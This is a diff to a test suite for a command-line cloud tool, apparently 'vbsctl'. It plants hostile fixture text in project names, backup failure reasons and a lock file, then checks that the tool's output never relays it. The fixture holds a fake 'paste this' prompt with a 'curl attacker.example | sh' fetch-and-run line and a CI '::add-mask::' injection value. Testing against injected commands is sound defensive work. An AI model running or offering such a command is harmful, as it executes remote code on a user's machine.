@@ -218,6 +218,7 @@ describe('hostile texts, through every command', () => {
       expect(logCommandsIn(text), about).to.deep.equal([]);
       expectHarmless(text.replaceAll('\t', ' '));
       expect(text, about).not.to.match(/^\s*(?:→ )?vbsctl apply --auto-approve$/m);
+      expect(text, about).not.to.match(/^\s*(To go on, paste this|(→|➜)\S* (curl attacker|vbsctl apply z))/m);
       // A name that looks like one, among other names.
       for (const [command] of text.matchAll(/\b(?:vbsctl|openstack) [^\n]*/g))
         if (!command.startsWith('vbsctl apply --auto-approve')) pasted.add(command);
@@ -316,10 +317,13 @@ apply: {requests_per_second: 1000, max_failures: 0}
   }
 });
 
+/** Lines of their own, as if vbsctl had written them. */
+const LINES = 'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n';
+
 const LOCK = `${JSON.stringify({
   id: VALUES[1],
   who: LOG_COMMANDS[1],
-  host: VALUES[0],
+  host: LINES,
   pid: 4711,
   operation: LOG_COMMANDS[0],
   since: '::add-mask::x',
@@ -333,6 +337,9 @@ function hostileWorld() {
   for (const [n, volume] of Object.values(world.volumes).entries()) volume.name = name(n);
   for (const [n, backup] of Object.values(world.backups).entries()) backup.name = name(n + 3);
   const [project_id] = Object.keys(world.projects);
+  for (const project of Object.values(world.projects)) project.name = LINES;
+  for (const backup of Object.values(world.backups).slice(4, 8))
+    Object.assign(backup, { status: 'error', fail_reason: LINES });
   for (const [n, volume] of Object.values(world.volumes).slice(16).entries()) {
     // An id that is more than one word is refused (`cloud.test.ts`).
     const id = `srv-${n}`;
